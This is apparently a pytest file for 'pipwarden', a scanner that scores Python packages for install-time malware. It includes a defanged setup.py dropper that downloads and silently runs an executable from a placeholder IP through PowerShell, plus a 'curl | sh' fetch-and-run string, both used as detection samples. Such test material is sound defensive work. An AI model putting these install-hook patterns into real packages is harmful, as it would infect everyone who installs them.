"""The scanner's model: its features, its shipped weights, its finding, failing closed.

Samples are defanged and written here (hosts under example.invalid, inert
commands); they are only parsed, never run.
"""

from __future__ import annotations

import json
import math
from collections.abc import Iterator
from pathlib import Path

import pytest

from pipwarden.candidate import Candidate
from pipwarden.errors import PipwardenError
from pipwarden.findings import Severity
from pipwarden.scan import model, scan_target
from pipwarden.scan.facts import Event
from pipwarden.scan.features import Collector, feature_names, scan_ast, scan_regex
from tests.support.builders import build_sdist

DROPPER = (
    "import os, subprocess, tempfile, urllib.request\n"
    "from setuptools import setup\n"
    "from setuptools.command.install import install\n"
    "class PostInstall(install):\n"
    "    def run(self):\n"
    "        install.run(self)\n"
    "        path = os.path.join(tempfile.gettempdir(), 'update.exe')\n"
    "        urllib.request.urlretrieve('http://192.0.2.7/update.exe', path)\n"
    "        subprocess.Popen(['powershell', '-WindowStyle', 'Hidden', 'Start-Process', path],\n"
    "                         shell=True)\n"
    "setup(name='p', version='1', cmdclass={'install': PostInstall})\n"
)

PLAIN_SETUP = (
    "from setuptools import find_packages, setup\n"
    "setup(name='p', version='1', packages=find_packages(),\n"
    "      install_requires=['requests>=2'], url='https://example.invalid/p')\n"
)

#: A setup.py that asks git for its version: common in real projects.
GIT_VERSION_SETUP = (
    "import subprocess\n"
    "from setuptools import setup\n"
    "def version():\n"
    "    try:\n"
    "        out = subprocess.check_output(['git', 'describe', '--tags'])\n"
    "        return out.decode().strip()\n"
    "    except Exception:\n"
    "        return '0.0.0'\n"
    "setup(name='p', version=version())\n"
)

#: A library's test suite: processes, HTTP, base64, temp files, environment.
TEST_SUITE = (
    "import base64, os, subprocess, tempfile\n"
    "import requests\n"
    "def test_cli(tmp_path):\n"
    "    out = subprocess.run(['python', '-m', 'p', '--help'], capture_output=True)\n"
    "    assert out.returncode == 0\n"
    "def test_client():\n"
    "    r = requests.get('https://example.invalid/api', headers={'token': os.environ['T']})\n"
    "    data = base64.b64decode(r.text)\n"
    "    with tempfile.NamedTemporaryFile() as f:\n"
    "        f.write(data)\n"
    "    os.system('echo done')\n"
)

LIBRARY = (
    "import requests\n"
    "def fetch(url, token):\n"
    "    return requests.get(url, headers={'Authorization': token}).json()\n"
)


#: A small library (1.5 KiB of statements): install-time code in front of a library.
LIBRARY = "".join(
    f"def scale_{i}(value, factor={i}):\n    return value * factor + {i}\n" for i in range(30)
)


def _scan(tmp_path: Path, files: dict[str, str | bytes]) -> tuple[str, list[str], float | None]:
    filename, data = build_sdist("p", "1", files)
    path = tmp_path / filename
    path.write_bytes(data)
    r = scan_target(path)
    return r.verdict, [f.rule for f in r.findings], r.probability


@pytest.fixture
def broken_weights(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """The shipped weights replaced by a corrupt file (the cache emptied around it)."""
    bad = tmp_path / "model.json"
    bad.write_text('{"format": "pipwarden-scan-model/1", "features": [')
    monkeypatch.setattr(model, "WEIGHTS", bad)
    model.shipped.cache_clear()
    yield bad
    model.shipped.cache_clear()


# --- features -------------------------------------------------------------------------


def test_ast_features_resolve_aliases_and_literals() -> None:
    facts = scan_ast(
        b"import subprocess as sp\nfrom base64 import b64decode as d\n"
        b"sp.Popen('curl https://example.invalid/x | sh', shell=True)\nexec(d('cHJpbnQ='))\n"
    )
    assert facts is not None
    assert facts.counts["process"] == 1
    assert facts.counts["decode"] == 1
    assert facts.counts["dynamic"] == 1
    assert facts.counts["shell"] >= 1 and facts.counts["url"] == 1


def test_regex_features_read_unparsed_modules() -> None:
    facts = scan_regex(b"import os\nfrom urllib.request import urlopen\nurlopen(u)\nos.system(c)\n")
    assert facts.counts["network"] == 1 and facts.counts["process"] == 1
    assert scan_ast(b"def broken(:\n") is None  # unparsable: the collector falls back to regex


def test_contexts_of_files() -> None:
    c = Collector("sdist")
    c.add("p-1/setup.py", b"import os\nos.system('x')\n")
    c.add("p-1/p/__init__.py", b"import os\nos.system('x')\n")
    c.add("p-1/p/util.py", b"import os\nos.system('x')\n")
    c.add("p-1/tests/test_p.py", b"import os\nos.system('x')\n")  # not counted
    c.add("p-1/docs/conf.py", b"import os\nos.system('x')\n")  # not counted
    events = {
        "p-1/setup.py": {Event.PROCESS},
        "p-1/p/util.py": {Event.PROCESS, Event.NET},
        "p-1/tests/test_p.py": {Event.PROCESS},  # not counted
    }
    f = c.features([], events=events)
    one = math.log1p(1)
    assert f["install.process"] == f["import.process"] == one  # parsed here
    assert f["event.install.process"] == f["event.package.process"] == one  # the engine's
    assert f["event.package.net"] == one and f["event.import.process"] == 0.0
    assert set(f) == set(feature_names())


def test_pth_files_mark_what_they_import() -> None:
    c = Collector("wheel")
    c.add("evil.pth", b"import \nimport\nimport hook;hook.go()\n")  # odd lines are no crash
    c.add("hook.py", b"import subprocess\nsubprocess.Popen('x')\n")
    f = c.features([])
    assert f["pth_import"] > 0 and f["import.process"] > 0


def test_setup_shape() -> None:
    facts = scan_ast(DROPPER.encode(), setup=True)
    assert facts is not None
    assert facts.setup["setup_cmdclass"] == 1.0 and facts.setup["setup_hook_class"] == 1.0
    plain = scan_ast(PLAIN_SETUP.encode(), setup=True)
    assert plain is not None and not any(plain.setup.values())


# --- weights --------------------------------------------------------------------------


def test_shipped_weights_load_and_match_the_features() -> None:
    m = model.load()
    assert sorted(m.features) == feature_names()
    assert 0.0 < m.threshold < 1.0
    assert all(s > 0 for s in m.scale)
    assert model.shipped() == m


def _doc() -> dict[str, object]:
    doc: dict[str, object] = json.loads(model.WEIGHTS.read_text())
    return doc


@pytest.mark.parametrize(
    ("key", "value", "says"),
    [
        ("format", "other/1", "not a"),
        ("features", ["x"], "features"),
        ("threshold", 1.5, "threshold"),
        ("intercept", "NaN", "finite"),
        ("platt_a", True, "finite"),
    ],
)
def test_invalid_weights_are_rejected(key: str, value: object, says: str) -> None:
    doc = _doc()
    doc[key] = value
    with pytest.raises(ValueError, match=says):
        model.parse(doc)


def test_non_finite_or_short_vectors_are_rejected() -> None:
    doc = _doc()
    coef = list(doc["coef"])  # type: ignore[call-overload]
    doc["coef"] = [math.inf, *coef[1:]]
    with pytest.raises(ValueError, match="finite"):
        model.parse(doc)
    doc["coef"] = coef[1:]
    with pytest.raises(ValueError, match="list of"):
        model.parse(doc)
    doc["coef"] = coef
    doc["scale"] = [0.0] * len(coef)
    with pytest.raises(ValueError, match="positive"):
        model.parse(doc)


def test_missing_or_corrupt_weights_raise(tmp_path: Path) -> None:
    with pytest.raises(PipwardenError, match="cannot be used"):
        model.load(tmp_path / "absent.json")
    bad = tmp_path / "bad.json"
    bad.write_text("{not json")
    with pytest.raises(PipwardenError, match="cannot be used"):
        model.load(bad)


def test_corrupt_weights_fail_closed(tmp_path: Path, broken_weights: Path) -> None:
    """A scan needing the model errors, and the code check then blocks the package."""
    from pipwarden.checks import code
    from pipwarden.index import IndexClient
    from pipwarden.policy import Policy
    from pipwarden.store import Store
    from pipwarden.vet import VetContext

    filename, data = build_sdist("p", "1", {"setup.py": PLAIN_SETUP})
    path = tmp_path / filename
    path.write_bytes(data)
    with pytest.raises(PipwardenError, match="model"):
        scan_target(path)
    cand = Candidate("p", "1", filename, "", None, "sdist", path=path)
    ctx = VetContext(policy=Policy(), store=Store(), index=IndexClient(None))
    findings = code.run(cand, ctx)
    assert findings and max(f.severity for f in findings) >= Severity.HIGH
    assert any("model" in f.message for f in findings)


# --- the finding ----------------------------------------------------------------------


def test_fires_on_an_install_time_dropper(tmp_path: Path) -> None:
    filename, data = build_sdist("p", "1", {"setup.py": DROPPER})
    path = tmp_path / filename
    path.write_bytes(data)
    r = scan_target(path)
    found = [f for f in r.findings if f.rule == model.RULE]
    assert len(found) == 1, r.findings
    f = found[0]
    assert f.severity == Severity.HIGH and r.verdict in ("suspicious", "malicious")
    assert r.probability is not None and r.probability >= model.shipped().threshold
    assert "install-time" in f.message and f.details["facts"]
    # the findings behind it are named, with their files
    assert all(b.split(" (")[0] in {g.rule for g in r.findings} for b in f.details["findings"])


@pytest.mark.parametrize(
    "files",
    [
        {"setup.py": PLAIN_SETUP, "p/__init__.py": "VERSION = '1'\n"},
        {"setup.py": GIT_VERSION_SETUP, "p/__init__.py": LIBRARY},
        {"setup.py": PLAIN_SETUP, "tests/test_p.py": TEST_SUITE, "p/__init__.py": ""},
        {"setup.py": PLAIN_SETUP, "p/__init__.py": "", "p/client.py": LIBRARY},
    ],
    ids=["plain-setup", "git-version", "test-suite", "http-library"],
)
def test_silent_on_benign_shapes(tmp_path: Path, files: dict[str, str | bytes]) -> None:
    verdict, rules, p = _scan(tmp_path, files)
    assert model.RULE not in rules
    assert verdict == "clean"
    assert p is not None and p < model.shipped().threshold


def test_scan_without_the_model_only_gathers_facts(tmp_path: Path) -> None:
    filename, data = build_sdist("p", "1", {"setup.py": DROPPER})
    path = tmp_path / filename
    path.write_bytes(data)
    r = scan_target(path, model=False)
    assert r.probability is None and model.RULE not in {f.rule for f in r.findings}
    assert r.features["install.process"] > 0 and r.features["setup_hook_class"] > 0


def test_describe_names_facts_in_words() -> None:
    assert model.describe("install.process*network") == (
        "process calls with network calls in install-time code"
    )
    assert model.describe("finding.install.families") == (
        "families of findings in install-time code"
    )
    assert "cmdclass" in model.describe("setup_cmdclass")
    assert model.describe("event.install.net") == "install-time files with network use"
    assert model.describe("event.package.spy") == (
        "package files with keystroke, screen or clipboard capture"
    )
